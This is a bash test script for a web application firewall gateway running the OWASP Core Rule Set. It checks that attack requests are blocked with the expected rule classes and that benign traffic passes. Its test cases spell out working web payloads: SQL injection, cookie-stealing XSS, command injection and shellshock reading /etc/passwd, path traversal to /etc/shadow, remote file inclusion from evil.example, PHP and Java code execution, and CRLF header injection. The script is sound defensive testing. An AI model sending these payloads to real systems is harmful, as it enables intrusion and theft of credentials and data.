#!/usr/bin/env bash
# CRS 3.3.4 (Debian's package, paranoia level 1, anomaly scoring) in a
# running daemon, one case per attack class and a set of benign requests
# that look dangerous to naive filters. Every attack must be refused with
# 403 AND be explained by a rule of its class (the explain endpoint's
# matches, by the request's X-Request-Id): SQLi 942, XSS 941, RCE 932,
# LFI 930, RFI 931, PHP 933, Java 944, protocol violations and attacks
# 920/921, method enforcement 911, scanner detection 913, session
# fixation 943, unparsable bodies 200002. Benign traffic must get 200 with no detection recorded.
. "$(dirname "$0")/lib.sh"
[ -f /usr/share/modsecurity-crs/owasp-crs.load ] || { echo "modsecurity-crs missing"; exit 1; }
bw_init || exit 1
sed -i 's/port: 9443/port: 0/; s/port: 8443/port: 0/' "$D/bulwark.yaml"
# The bot module would refuse scanners before the WAF sees them; this test
# is about the CRS, so the route leaves bots to it.
sed -i 's/waf: block, bot: block}/waf: block, bot: off}/' "$D/bulwark.yaml"
bw_launch || exit 1
G="https://localhost:$GW"
A=(-H "Authorization: Bearer $TOKEN")
UA=(-A "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0")

# explain_ids RID — the rule ids the explain endpoint lists for a request
explain_ids() {
  acurl "${A[@]}" "https://localhost:$ADMIN/api/v1/waf/explain/$1" |
    "$PY" -c 'import json,sys
try: d = json.load(sys.stdin)
except Exception: sys.exit(0)
print(" ".join(str(m["rule_id"]) for m in d.get("matches", [])))'
}
# [WANT=status] blocked CLASS_REGEX DESCRIPTION CURL_ARGS... — 403 (or
# WANT) and a rule of the class
blocked() {
  local cls=$1 what=$2; shift 2
  local h rid ids
  h=$(acurl "${UA[@]}" -s -D - -o /dev/null "$@")
  rid=$(awk 'tolower($1)=="x-request-id:"{print $2}' <<<"$h" | tr -d '\r')
  ids=$(explain_ids "$rid")
  if grep -q "^HTTP/[0-9.]* ${WANT:-403}" <<<"$h" && grep -Eq "(^| )($cls)[0-9]{3}( |$)" <<<"$ids"; then
    ok "$what (rules: $ids)"
  else
    fail "$what: $(head -1 <<<"$h" | tr -d '\r'), rules: ${ids:-none}"
  fi
}
# passes DESCRIPTION CURL_ARGS... — 200 and nothing recorded for it
passes() {
  local what=$1; shift
  local h rid ids
  h=$(acurl "${UA[@]}" -s -D - -o /dev/null "$@")
  rid=$(awk 'tolower($1)=="x-request-id:"{print $2}' <<<"$h" | tr -d '\r')
  ids=$(explain_ids "$rid")
  if grep -q '^HTTP/[0-9.]* 200' <<<"$h" && [ -z "$ids" ]; then
    ok "$what"
  else
    fail "$what: $(head -1 <<<"$h" | tr -d '\r'), rules: ${ids:-none}"
  fi
}

# --- attacks, one or more per class
blocked 942 "SQLi: tautology" "$G/api/echo?id=1%27%20OR%20%271%27%3D%271"
blocked 942 "SQLi: UNION SELECT in a form body" -d "user=x%27%20UNION%20SELECT%20login,secret%20FROM%20users--" "$G/api/echo"
blocked 942 "SQLi: time-based in a JSON body" -H 'Content-Type: application/json' -d '{"id":"1 AND SLEEP(5)"}' "$G/api/echo"
blocked 941 "XSS: script tag" "$G/api/echo?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"
blocked 941 "XSS: event handler" "$G/api/echo?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"
blocked 941 "XSS: javascript: URI in a cookie" -H 'Cookie: next=javascript:alert(1)' "$G/api/echo"
blocked 932 "RCE: Unix command injection" "$G/api/echo?host=127.0.0.1%3Bcat%20/etc/passwd"
blocked 932 "RCE: Windows command after a pipe" "$G/api/echo?file=x%7Ccmd%20/c%20dir%20c:%5C"
blocked 932 "RCE: shellshock in a header" -H 'Referer: () { :; }; /bin/cat /etc/passwd' "$G/api/echo"
blocked 930 "LFI: path traversal" "$G/api/echo?file=../../../../etc/passwd"
blocked 930 "LFI: encoded traversal" "$G/api/echo?file=..%252f..%252f..%252fetc%252fshadow"
blocked 931 "RFI: URL with an IP address" "$G/api/echo?page=http://203.0.113.7/shell.txt"
blocked 931 "RFI: URL ending in a question mark" "$G/api/echo?inc=http://evil.example/x.txt%3F"
blocked 933 "PHP: code injection" "$G/api/echo?x=%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E"
blocked 933 "PHP: wrapper" "$G/api/echo?file=php://filter/convert.base64-encode/resource=index.php"
blocked 944 "Java: Runtime.exec" "$G/api/echo?x=java.lang.Runtime.getRuntime().exec(%22id%22)"
blocked 944 "Java: ProcessBuilder in a JSON body" -H 'Content-Type: application/json' -d '{"cls":"java.lang.ProcessBuilder","args":["id"]}' "$G/api/echo"
blocked 920 "protocol violation: NUL byte in an argument" "$G/api/echo?a=x%00y"
blocked 920 "protocol violation: content type not allowed" -H 'Content-Type: application/x-evil' -d 'a=b' "$G/api/echo"
blocked 921 "protocol attack: CRLF header injection" "$G/api/echo?lang=en%0d%0aSet-Cookie:%20sid%3Dattacker"
blocked 911 "method not allowed by policy" -X PROPFIND "$G/api/echo"
blocked 913 "scanner: Nikto user agent" -A 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' "$G/"
blocked 913 "scanner: sqlmap user agent" -A 'sqlmap/1.7.2#stable (https://sqlmap.org)' "$G/"
blocked 943 "session fixation: session id in the query" "$G/api/echo?PHPSESSID=attacker123&x=1" -H "Referer: https://evil.example/"

WANT=400 blocked 200 "a JSON body that does not parse: 400 (REQBODY_ERROR)" -H 'Content-Type: application/json' -d '{"a":' "$G/api/echo"

# --- benign traffic that trips naive filters, must pass untouched
passes "plain page" "$G/"
passes "search words like select/update/from" "$G/api/echo?q=select%20your%20size%20from%20the%20list%20and%20update%20the%20cart"
passes "an apostrophe in a name" -d "name=Sin%C3%A9ad%20O%27Brien&city=Dublin" "$G/api/echo"
passes "prose with punctuation" -d "comment=Great+product%21+Arrived+on+time+%28two+days%29%2C+would+buy+again.+5%2F5" "$G/api/echo"
passes "an e-mail address and a phone number" "$G/api/echo?email=jane.doe%2Bshop%40example.com&phone=%2B1-555-0100"
passes "a same-site return URL" "$G/api/echo?next=/account/orders%3Fpage%3D2"
passes "a JSON order" -H 'Content-Type: application/json' -d '{"order":{"id":42,"items":[{"sku":"A-1","qty":2,"note":"gift wrap, please"}],"coupon":"SPRING-10"}}' "$G/api/echo"
passes "a bearer token and cookies" -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl' -H 'Cookie: theme=dark; lang=en-GB' "$G/api/echo"
passes "a multipart upload of a text file" -F "title=notes" -F "file=@$HERE/lib.sh;type=text/plain" "$G/api/echo"
passes "Unicode text" "$G/api/echo?q=%E6%9D%B1%E4%BA%AC%20caf%C3%A9%20na%C3%AFve%20%F0%9F%98%80"
passes "HEAD and OPTIONS" -I "$G/"
check "clean stop" bw_stop
finish
